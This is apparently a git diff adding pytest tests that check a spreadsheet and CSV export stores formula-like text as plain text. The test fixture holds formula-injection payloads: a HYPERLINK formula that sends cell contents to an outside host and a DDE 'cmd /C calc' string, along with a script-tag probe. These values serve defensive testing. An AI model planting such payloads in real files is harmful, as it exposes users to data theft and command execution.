@@ -24,11 +24,25 @@ summary: {{zh: '-2+3 开头的摘要 & <script>alert(1)</script>'}}
 """
 
 
+FORMULA_ID = "changning-formula-title"
+FORMULA_TITLE = '=HYPERLINK("http://x/?"&A1,"click")'
+FORMULA_CASE = f"""id: {FORMULA_ID}
+title: {{zh: '{FORMULA_TITLE}', en: '@SUM(1+1)*cmd|"/C calc"!A0'}}
+district: 长宁
+street: {{zh: '=1+1', en: '+1+1'}}
+year: 2023
+types: [党群服务阵地]
+summary: {{zh: '#N/A', en: '-1'}}
+"""
+
+
 @pytest.fixture(scope="module")
 def content(tmp_path_factory) -> Path:
-    """The sample content plus a case with markup-like, formula-like text and no optional field."""
+    """The sample content plus a case with markup-like, formula-like text and no optional field,
+    and one whose texts are formulas and an error value as a spreadsheet would read them."""
     cases = copy_content(tmp_path_factory.mktemp("export-content"))
     (cases / "excellent" / f"{HOSTILE_ID}.yaml").write_text(MINIMAL_CASE, encoding="utf-8")
+    (cases / "excellent" / f"{FORMULA_ID}.yaml").write_text(FORMULA_CASE, encoding="utf-8")
     return cases
 
 
@@ -71,6 +85,36 @@ def test_xlsx_has_a_sheet_per_kind_with_bilingual_frozen_filtered_headers(export
     assert row[1].value == HOSTILE_TITLE  # text as written, nothing escaped into it
 
 
+def test_xlsx_stores_every_text_as_text_never_a_formula(exported):
+    """Finding 2 of issue 13: a title =HYPERLINK(…) or a street =1+1 was a live formula in
+    entries.xlsx. Read back with openpyxl and in the sheet XML itself."""
+    import re
+    import zipfile
+
+    from lxml import etree
+    from openpyxl import load_workbook
+
+    book = load_workbook(exported / "entries.xlsx")
+    sheet = book["案例"]
+    columns = {str(c.value).split("\n")[1]: c.column for c in sheet[1]}
+    row = next(r[0].row for r in sheet.iter_rows(min_row=2) if r[0].value == FORMULA_ID)
+    expected = {"Title": FORMULA_TITLE, "Title (English)": '@SUM(1+1)*cmd|"/C calc"!A0', "Sub-district/town": "=1+1",
+                "Sub-district/town (English)": "+1+1", "Summary": "#N/A", "Summary (English)": "-1"}
+    for header, text in expected.items():
+        cell = sheet.cell(row, columns[header])
+        assert (cell.value, cell.data_type) == (text, "s"), header
+    assert sheet.cell(row, columns["Title"]).quotePrefix  # Excel keeps it text even when the cell is edited
+    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    with zipfile.ZipFile(exported / "entries.xlsx") as archive:
+        parts = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
+        assert len(parts) == 3
+        for name in parts:
+            for c in etree.fromstring(archive.read(name)).iter(f"{main}c"):
+                assert c.find(f"{main}f") is None and c.get("t") not in ("e", "str"), etree.tostring(c)
+                if c.find(f"{main}is") is not None:
+                    assert c.get("t") == "inlineStr"
+
+
 def test_xlsx_reads_back_through_the_import_to_the_same_entries(exported, collection, tmp_path):
     """Round trip: import the exported workbook into an empty content folder; every field the
     workbook carries comes back equal."""
@@ -84,6 +128,7 @@ def test_xlsx_reads_back_through_the_import_to_the_same_entries(exported, collec
     result = showcase("import", str(exported / "entries.xlsx"), "--content", str(empty), lang="en")
     assert result.returncode == 0, result.stdout + result.stderr
     assert "not known" not in result.stdout  # the export-only columns are skipped quietly
+    assert "holds a formula" not in result.stdout  # text cells that look like formulas are text
     back, diagnostics = load_collection(empty, keep_partial=True)
     assert back is not None, [d.format("en") for d in diagnostics if d.is_error]
 
@@ -114,6 +159,8 @@ def test_csv_has_a_bom_reads_with_pythons_csv_and_defuses_formulas(exported, col
     assert hostile[1] == HOSTILE_TITLE
     summary = hostile[rows[0].index("摘要 / Summary")]
     assert summary.startswith("'-2+3"), "a cell starting with - + = @ is not a formula"
+    formula = next(r for r in rows if r[0] == FORMULA_ID)
+    assert formula[1] == "'" + FORMULA_TITLE and formula[rows[0].index("街道/镇 / Sub-district/town")] == "'=1+1"
     for name, table in (("competition-sites.csv", collection.sites), ("milestones.csv", collection.milestones)):
         data = (exported / name).read_bytes()
         assert data.startswith(b"\xef\xbb\xbf") and len(list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))) - 1 == len(table)
